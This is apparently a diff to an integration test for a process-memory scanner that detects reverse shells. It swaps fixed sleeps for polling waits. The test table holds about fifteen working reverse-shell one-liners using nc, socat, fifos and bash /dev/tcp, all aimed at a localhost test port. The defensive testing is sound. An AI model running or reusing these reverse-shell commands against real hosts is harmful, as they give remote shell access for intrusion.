@@ -20,9 +20,9 @@ from ansible_collections.bulwark.servers.plugins.module_utils.memory_scan.identi
 from ansible_collections.bulwark.servers.plugins.module_utils.memory_scan.proc import processes
 
 from tests.integration.memory_scan import _memory
-from tests.integration.memory_scan._techniques.bench import Bench, Started, descendants, wait_for
+from tests.integration.memory_scan._techniques.bench import Bench, Started, wait_for, wait_for_quiet
 from tests.integration.memory_scan._techniques.fixtures import NEEDS, bench, programs
-from tests.support import give_up, paths
+from tests.support import give_up, paths, waiting
 
 pytestmark = [pytest.mark.requires(*NEEDS), pytest.mark.xdist_group("memory")]
 
@@ -130,19 +130,21 @@ def test_capabilities_of_an_interpreter(bench: Bench) -> None:
 _OVER_STREAMS = {
     "fifo": "mkfifo f; sh -i <f 2>&1 | nc 127.0.0.1 {port} >f &",
     "cat": "mkfifo f; cat f | sh -i 2>&1 | nc 127.0.0.1 {port} >f &",
-    "two fifos that are removed": "mkfifo a b; sh -i <a >b 2>&1 & nc 127.0.0.1 {port} >a <b & sleep 0.3; rm a b;",
+    "two fifos that are removed": "mkfifo a b; sh -i <a >b 2>&1 & nc 127.0.0.1 {port} >a <b &"
+    " until ss -Htn 'dport = :{port}' | grep -q .; do sleep 0.05; done; rm a b;",
     "two names": "mkfifo a; ln a b; sh -i <a 2>&1 | nc 127.0.0.1 {port} >b &",
     "many hops": "mkfifo a b; cat a | cat | cat | bash 2>&1 | cat | cat >b & cat b | nc 127.0.0.1 {port} | cat >a &",
     "script": "mkfifo a; bash a 2>&1 | nc 127.0.0.1 {port} >a &",
     "socat": "socat tcp:127.0.0.1:{port} exec:/bin/sh,pipes &",
     "socat and a fifo": "mkfifo a; sh <a 2>&1 | socat - tcp:127.0.0.1:{port} >a &",
     "pipes alone": "nc -l -s 127.0.0.1 -p {free} 0<&- | sh 2>&1 | nc 127.0.0.1 {port} &"
-    " sleep 0.3; nc 127.0.0.1 {free} &",
+    " until ss -Hltn 'sport = :{free}' | grep -q .; do sleep 0.05; done; nc 127.0.0.1 {free} &",
     "a pair of sockets": "socat tcp:127.0.0.1:{port} exec:/bin/bash &",
     "a pair of sockets of another network": "bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port};"
     " exec unshare -n socat fd:3 exec:/bin/bash' &",
     "a terminal": "socat tcp:127.0.0.1:{port} exec:/bin/bash,pty,stderr,setsid,sane &",
-    "two programs and a terminal": "socat pty,link=t,raw exec:/bin/bash & sleep 0.3; socat tcp:127.0.0.1:{port} ./t &",
+    "two programs and a terminal": "socat pty,link=t,raw exec:/bin/bash &"
+    " until [ -e t ]; do sleep 0.05; done; socat tcp:127.0.0.1:{port} ./t &",
     "a recorder's terminal": "bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port};"
     " exec script -qc bash /dev/null <&3 >&3 3>&-' &",
     "a terminal in other mounts": "socat tcp:127.0.0.1:{port} exec:'unshare -m bash',pty,stderr,setsid,sane &",
@@ -153,7 +155,7 @@ _OVER_STREAMS = {
 }
 
 
-@pytest.mark.requires("command:nc", "command:socat", "command:script")
+@pytest.mark.requires("command:nc", "command:ss", "command:socat", "command:script")
 @pytest.mark.parametrize("script", [pytest.param(script, id=name) for name, script in _OVER_STREAMS.items()])
 def test_a_shell_that_a_connection_reaches_over_streams(script: str, bench: Bench) -> None:
     seen = _around_a_connection(bench, script)
@@ -232,12 +234,10 @@ def _around_a_connection(bench: Bench, script: str) -> set[tuple[str, str]]:
         other.close()
         line = script.format(port=server.getsockname()[1], free=free)
         started = bench.run("/bin/sh", "-c", f"{line} echo ready; sleep 1000", cwd=bench.scratch)
-        server.settimeout(30)
+        server.settimeout(waiting.SECONDS)
         connection, _address = server.accept()
         with connection:
-            time.sleep(0.5)
-            tree = (started.pid, *descendants(started.pid))
-            result = _memory.scan(*tree)
+            result = _memory.scan(*wait_for_quiet(started.pid))
     assert _memory.skipped(result) == []
     return {(sign["subtype"], sign["severity"]) for sign in _memory.signs(result)}
 
